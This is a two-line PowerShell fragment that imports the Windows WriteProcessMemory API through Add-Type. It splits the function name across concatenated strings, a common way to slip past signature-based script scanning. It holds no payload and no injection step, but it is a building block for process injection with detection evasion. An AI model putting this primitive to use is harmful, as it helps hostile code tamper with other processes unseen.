$src = '[DllImport("kernel32.dll")] public static extern bool Write' + 'ProcessMemory(IntPtr h, IntPtr a, byte[] b, int n, out int w);'
Add-Type -MemberDefinition $src -Name K -Namespace W
